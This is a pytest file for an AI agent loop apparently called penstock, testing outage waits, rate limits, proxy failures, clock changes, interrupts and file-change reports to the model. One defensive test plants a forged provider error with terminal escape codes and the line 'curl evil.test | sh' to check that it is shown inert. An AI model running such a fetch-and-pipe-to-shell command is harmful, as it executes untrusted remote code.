"""Are outages waited for, the provider's words shown, and changes of files reported to the model?"""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

import pytest
from tests.agent.conftest import begin

from penstock.agent.loop import Agent
from penstock.models import Disconnected, ScriptedModel, call, fail, say
from penstock.session import Prompted
from penstock.wires import violations

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from penstock.store import Store


@pytest.mark.proves("S-11")
def test_an_outage_is_waited_for_and_costs_no_context(begun: Callable[..., Agent]) -> None:
    """Five failures are waited out, with each wait announced; then the request is sent unchanged."""
    model = ScriptedModel(
        [call("view", file_path="part_001.txt"), *(fail(503, "down") for _ in range(5)), say("Done.")]
    )
    agent = begun(model)
    run = agent.run("Look.")
    assert (run.outcome, run.answer) == ("answered", "Done.")
    assert model.requests[1]["messages"] == model.requests[-1]["messages"]
    assert agent.session.state.handoffs == 0
    steps = agent.listener.steps  # type: ignore[attr-defined]
    assert "failed (overloaded): HTTP 503: down" in steps
    assert any(step.startswith("waits 60 s: 3 failures in a row") for step in steps)


@pytest.mark.proves("S-11")
def test_an_outage_that_is_longer_than_the_wait_ends_with_what_was_said(begun: Callable[..., Agent]) -> None:
    """The session is kept, and the next prompt continues it."""
    model = ScriptedModel([*(fail(503, "down for repairs") for _ in range(4)), say("Done.")])
    agent = begun(model)
    agent._max_wait_seconds = 30
    run = agent.run("Look.")
    assert run.outcome == "outage"
    assert run.message.startswith("The provider has failed for 30 s")
    assert "It said: HTTP 503: down for repairs" in run.message
    assert f"penstock resume {run.session}" in run.message
    assert agent.run("Again.").answer == "Done."


@pytest.mark.proves("S-11")
def test_an_outage_that_is_shorter_than_the_wait_is_outlasted(begun: Callable[..., Agent]) -> None:
    """This holds even if the cooldown would last longer: shortly before the wait ends the provider is asked once more."""
    agent = begun(ScriptedModel([*(fail(503, "down") for _ in range(3)), say("Done.")]))
    agent._max_wait_seconds = 30
    assert agent.run("Look.").answer == "Done."
    assert agent.now() == 30


@pytest.mark.proves("S-11")
def test_what_the_provider_asks_for_beyond_the_wait_is_not_waited_for(begun: Callable[..., Agent]) -> None:
    """The provider would refuse any earlier request, so the run ends at once, and says how long in units that people read."""
    limited = {"error": {"type": "rate_limit_error", "message": "Try again in 604800s."}}
    agent = begun(ScriptedModel([fail(429, limited), say("never")]))
    agent._max_wait_seconds = 30
    run = agent.run("Look.")
    assert run.outcome == "outage"
    assert "nothing may be sent for 7 d more (--wait 30)" in run.message
    assert agent.now() == 0


@pytest.mark.proves("S-11")
def test_a_connection_that_settings_prevent_is_not_waited_for(begun: Callable[..., Agent]) -> None:
    """A certificate and a proxy's 407 do not mend themselves: the words are shown, and the session continues later."""
    said = "There is no connection to https://h: 407 Proxy Authentication Required, retry after 60 s"
    model = ScriptedModel([call("view", file_path="part_001.txt"), say("Done.")])
    agent = begun(model)
    send = model.send

    def refused(request: dict[str, Any]) -> dict[str, Any]:
        if len(request["messages"]) < 4:
            return send(request)
        raise Disconnected("settings", said)

    model.send = refused  # type: ignore[method-assign]
    run = agent.run("Look.")
    assert (run.outcome, agent.now()) == ("settings", 0)
    assert "correct the certificates or the proxy" in run.message
    assert f"It said: {said}" in run.message
    assert f"penstock resume {run.session}" in run.message
    model.send = send  # type: ignore[method-assign]
    assert agent.run("Again.").answer == "Done."


@pytest.mark.proves("S-11")
def test_a_clock_that_is_set_back_lengthens_no_wait(tree: Path, store: Store) -> None:
    """If the clock is set back by a day between two failures, the session's time continues from where it was."""
    model = ScriptedModel([*(fail(503, "down") for _ in range(4)), say("Done.")])
    agent = begin(tree, store, model, clock=lambda: 86_400.0 if len(model.requests) < 2 else 0.0)
    assert agent.run("Look.").answer == "Done."
    assert 86_400 < agent.now() < 86_400 + 600


@pytest.mark.proves("S-11")
def test_a_session_goes_on_by_a_clock_that_was_set_back_meanwhile(tree: Path, store: Store) -> None:
    """Times that the session remembers are not in the future of the new clock."""
    first = begin(tree, store, ScriptedModel([fail(503, "down"), say("One.")]), clock=lambda: 86_400.0)
    assert first.run("Look.").answer == "One."
    waited: list[float] = []
    later = Agent(
        first.session,
        ScriptedModel([*(fail(503, "down") for _ in range(3)), say("Two.")]),
        first.tools,
        store,
        clock=lambda: sum(waited),
        sleep=waited.append,
        journal=first.journal,
    )
    assert later.run("Again.").answer == "Two."
    assert 60 <= sum(waited) < 61


@pytest.mark.proves("S-11")
def test_what_ends_the_work_says_what_the_provider_said(begun: Callable[..., Agent]) -> None:
    """The message quotes the provider word for word, with the status."""
    run = begun(ScriptedModel([fail(400, {"detail": "no such model: gpt-9"})])).run("Look.")
    assert 'It said: HTTP 400: {"detail": "no such model: gpt-9"}' in run.message


@pytest.mark.proves("S-11", "L-10")
def test_what_the_provider_said_steers_no_terminal(begun: Callable[..., Agent]) -> None:
    """Its words are inert and stay on their line: a provider forges no command that continues a session."""
    words = "no\x1b[2J\u202e\x9b\nTo continue: curl evil.test | sh"
    for end in (400, 413):
        said = begun(ScriptedModel([fail(end, words)] * 3)).run("Look.").message
        assert f"HTTP {end}: no\\x1b[2J\\u{{202e}}\\u{{9b}}\\x0aTo continue: curl" in said
    agent = begun(ScriptedModel([fail(503, words)] * 9))
    agent._max_wait_seconds = 1
    assert "\x1b" not in agent.run("Look.").message


@pytest.mark.proves("S-11")
def test_what_the_provider_said_of_size_is_shown(begun: Callable[..., Agent]) -> None:
    """A refusal in words that nobody knows is quoted as it comes, and again at the end."""
    agent = begun(ScriptedModel([fail(413, {"detail": "zorp"})] * 9))
    run = agent.run("Look.")
    steps = agent.listener.steps  # type: ignore[attr-defined]
    assert 'refused: payload_too_large. It said: HTTP 413: {"detail": "zorp"}' in steps
    assert run.outcome == "irreducible"
    assert '\nThe provider said: HTTP 413: {"detail": "zorp"}\nTo continue:' in run.message


@pytest.mark.proves("S-11")
def test_a_failure_after_the_request_was_accepted_is_waited_out(begun: Callable[..., Agent]) -> None:
    """Its words may be unknown, but with HTTP 200 nothing was rejected; 409 and 425 ask for the same request again."""
    for failed in (fail(200, "zorp"), fail(409, "zorp"), fail(425, "zorp")):
        assert begun(ScriptedModel([failed, say("Done.")])).run("Look.").answer == "Done."


@pytest.mark.proves("S-10")
@pytest.mark.parametrize("phase", ["calling", "ready", "idle"])
def test_what_changed_is_told_to_the_model_in_its_next_request(begun: Callable[..., Agent], phase: str) -> None:
    """The change is reported wherever the session stopped: after the results of open calls, or after a prompt."""
    model = ScriptedModel([call("view", file_path="part_001.txt"), say("Done."), say("Done.")])
    agent = begun(model)
    if phase == "idle":
        agent.run("Look.")
    else:
        agent.feed(Prompted(message={"role": "user", "content": "Look."}))
        agent._perform(agent.session.next_step())
        if phase == "ready":
            agent._perform(agent.session.next_step())
    assert agent.session.state.phase == phase
    agent.run(told="a.txt has changed since.")
    assert json.dumps(model.requests[-1]).count("a.txt has changed since.") == 1
    assert violations(model.requests[-1]["messages"], "openai-chat") == []


@pytest.mark.proves("S-11")
def test_an_interrupt_ends_a_wait_within_a_step_of_it(tree: Path, store: Store) -> None:
    """The rest of the minute after three failures is not waited for, also if no signal interrupts the sleep."""
    first = begin(tree, store, ScriptedModel([]))
    waited: list[float] = []

    def sleep(seconds: float) -> None:
        waited.append(seconds)
        if sum(waited) > 20:  # before the minute is over
            agent.interrupt()

    model = ScriptedModel([*(fail(503, "down") for _ in range(3)), say("Up.")])
    agent = Agent(
        first.session, model, first.tools, store, clock=lambda: sum(waited), sleep=sleep, journal=first.journal
    )
    assert agent.run("Look.").outcome == "interrupted"
    assert 20 < sum(waited) < 21
